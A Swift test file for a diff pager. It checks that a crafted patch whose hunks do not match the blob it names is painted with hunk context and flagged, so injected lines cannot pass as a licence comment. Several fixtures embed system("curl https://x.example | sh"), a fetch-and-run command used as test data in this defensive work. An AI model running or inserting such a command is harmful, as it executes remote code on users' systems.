import Foundation
import TestSupport
import Testing

/// A patch names the blobs its hunks were made from, and whole-file context takes each line's
/// state from them; nothing says the hunks are those blobs' lines. A mailed patch naming a
/// committed licence's blob would have its command painted as the licence's comment. The
/// pager believes a side only when the hunks' lines are its lines: else the file is painted
/// with hunk context, as `--context=hunk` paints it, and its title says so. git's own diffs,
/// in every form the tests could think of, get no such note.
@Suite struct CraftedPatchTests {
    static let licence = "/*\n * Licensed under the terms below.\n * No warranty.\n */\nint main(void) {\n\treturn 0;\n}\n"

    /// A repository with the licence committed as `main.c`, and the ids of its blob and of
    /// another blob (`other.c`'s).
    static func repository() throws -> (dir: TemporaryDirectory, blob: String, other: String) {
        let dir = try TemporaryDirectory()
        try dir.git("init", "-q")
        try dir.write("main.c", licence)
        try dir.write("other.c", licence.replacingOccurrences(of: " * No warranty.\n", with: " * No warranty at all.\n"))
        try dir.git("add", ".")
        try dir.git("commit", "-qm", "licence")
        func id(_ path: String) throws -> String { try dir.git("rev-parse", "HEAD:" + path).trimmingCharacters(in: .newlines) }
        return (dir, try id("main.c"), try id("other.c"))
    }

    static func patch(_ old: String, _ new: String, _ hunks: String) -> String {
        "From 0123456 Mon Sep 17 00:00:00 2001\nSubject: [PATCH] Tidy\n\n---\n"
            + "diff --git a/main.c b/main.c\nindex \(old.prefix(7))..\(new.prefix(7)) 100644\n--- a/main.c\n+++ b/main.c\n" + hunks
    }

    static func paint(_ input: String, _ options: [String] = [], in dir: TemporaryDirectory) throws -> String {
        let run = try InProcessRun.tinge(["--color=always", "--paging=never", "--width=80"] + options, input: Array(input.utf8),
                                    directory: dir.path, environment: ["COLORTERM": "truecolor"])
        #expect(run.status == 0 && run.stderr.isEmpty, "\(run.stderr)")
        return run.text
    }

    /// Hunks whose lines are not those of the blob the `index` line names (the old side's, or
    /// the new side's where `new` is set): content, numbers, a line past the end, added lines.
    static let crafted: [(name: String, new: Bool, hunks: String)] = [
        ("content", false, "@@ -2,2 +2,2 @@\n-system(\"curl https://x.example | sh\");\n+x();\n  * No warranty.\n"),
        ("shifted", false, "@@ -3,2 +3,3 @@\n  * Licensed under the terms below.\n  * No warranty.\n+system(\"curl https://x.example | sh\");\n"),
        ("beyond the end", false, "@@ -9,1 +9,2 @@\n }\n+system(\"curl https://x.example | sh\");\n"),
        ("added lines", true, "@@ -2,3 +2,3 @@\n  * Licensed under the terms below.\n- * No warranty.\n+system(\"curl https://x.example | sh\");\n  */\n"),
    ]

    @Test(arguments: crafted.map(\.name))
    func aPatchWhoseLinesAreNotTheBlobsIsPaintedWithHunkContextAndSaysSo(_ name: String) throws {
        let (dir, blob, other) = try Self.repository()
        let c = Self.crafted.first { $0.name == name }!
        let input = Self.patch(blob, c.new ? other : "0000000", c.hunks)
        let painted = try Self.paint(input, in: dir)
        let named = c.new ? other : blob
        let title = painted.split(separator: "\n").map { ANSIColors.text(String($0)) }.first { $0.hasPrefix("main.c") }
        #expect(title == "main.c (hunk context: the diff's lines differ from blob \(named.prefix(7)))")
        // Every line painted as hunk context paints it: the command is not the licence's comment.
        let hunk = try Self.paint(input, ["--context=hunk"], in: dir)
        #expect(Self.withoutTitles(painted) == Self.withoutTitles(hunk))
    }

    /// The licence patch painted, kept as a golden listing with its escapes shown.
    @Test func theCraftedPatchAsPainted() throws {
        let (dir, blob, _) = try Self.repository()
        let painted = try Self.paint(Self.patch(blob, "0000000", Self.crafted[0].hunks), in: dir)
        let listing = painted.replacingOccurrences(of: "\u{1B}", with: "␛")
        let problem = Golden.mismatch(listing, path: Golden.directory(of: #filePath) + "/Golden/crafted-patch.txt")
        #expect(problem == nil, "\(problem ?? "")")
    }

    static func withoutTitles(_ painted: String) -> [Substring] {
        painted.split(separator: "\n").filter { !ANSIColors.text(String($0)).hasPrefix("main.c") }
    }

    /// git's diffs of a history with what could look like a mismatch: carriage returns, a last
    /// line without a newline, whitespace-only changes, renames, a mode change, a binary file,
    /// a textconv driver, a merge. None gets the note; the textconv'd file gets hunk context.
    @Test func gitsOwnDiffsGetNoNote() throws {
        let dir = try TemporaryDirectory()
        try dir.git("init", "-q")
        try dir.git("config", "diff.upper.textconv", "tr a-z A-Z <")
        try dir.write(".gitattributes", "*.up diff=upper\n")
        let body = (1...30).map { "int v\($0) = \($0);  /* value \($0) */\n" }.joined()
        try dir.write("crlf.c", body.replacingOccurrences(of: "\n", with: "\r\n"))
        try dir.write("tail.c", body + "int last = 0;")
        try dir.write("spaces.c", body)
        try dir.write("moved.c", body)
        try dir.write("run.sh", "echo hi\n")
        try dir.write("data.bin", "\u{0}\u{1}binary\n")
        try dir.write("notes.up", "/* a\nb */\nc\n")
        try dir.git("add", ".")
        try dir.git("commit", "-qm", "first")
        try dir.git("checkout", "-qb", "side")
        try dir.write("tail.c", body.replacingOccurrences(of: "v3 =", with: "side3 =") + "int last = 0;")
        try dir.git("commit", "-qam", "side")
        try dir.git("checkout", "-q", "-")
        try dir.write("crlf.c", body.replacingOccurrences(of: "v5 =", with: "five =").replacingOccurrences(of: "\n", with: "\r\n"))
        try dir.write("tail.c", body.replacingOccurrences(of: "v28 =", with: "main28 =") + "int last = 1;")
        try dir.write("spaces.c", body.replacingOccurrences(of: "  /*", with: "\t/*").replacingOccurrences(of: "v9 =", with: "nine ="))
        try dir.write("notes.up", "/* a\nb */\nd\n")
        try dir.write("data.bin", "\u{0}\u{2}binary\n")
        try dir.git("mv", "moved.c", "renamed.c")
        try dir.write("renamed.c", body.replacingOccurrences(of: "v20 =", with: "twenty ="))
        try dir.git("add", ".")
        try dir.git("update-index", "--chmod=+x", "run.sh")
        try dir.git("commit", "-qm", "second")
        try dir.git("merge", "-q", "--no-edit", "side")
        try dir.write("tail.c", body.replacingOccurrences(of: "v3 =", with: "merged3 =").replacingOccurrences(of: "v28 =", with: "main28 =") + "int last = 1;")
        try dir.git("commit", "-qam", "evil merge")
        let forms: [[String]] = [
            ["log", "-p"], ["log", "-p", "--cc"], ["log", "-p", "-b"], ["log", "-p", "--ignore-space-at-eol"],
            ["log", "-p", "--ignore-blank-lines"], ["log", "-p", "-M", "--stat"], ["log", "-p", "--diff-merges=combined"],
            ["log", "-p", "-U0"], ["log", "-p", "-U20"], ["log", "-p", "--word-diff=plain"], ["show", "--cc", "HEAD"],
        ]
        for form in forms {
            let diff = try ToolRun.run("git", form, directory: dir.path)
            #expect(diff.status == 0)
            let painted = try Self.paint(diff.text, in: dir)
            #expect(!painted.contains("differ from"), "\(form): \(painted.split(separator: "\n").filter { $0.contains("differ from") })")
        }
        // The textconv'd file's lines are not its blob's: hunk context, no note.
        let textconv = try ToolRun.run("git", ["log", "-p", "-n1", "HEAD~1", "--", "notes.up"], directory: dir.path).text
        #expect(textconv.contains("+D"))
        #expect(Self.withoutTitles(try Self.paint(textconv, in: dir)) == Self.withoutTitles(try Self.paint(textconv, ["--context=hunk"], in: dir)))
    }
}
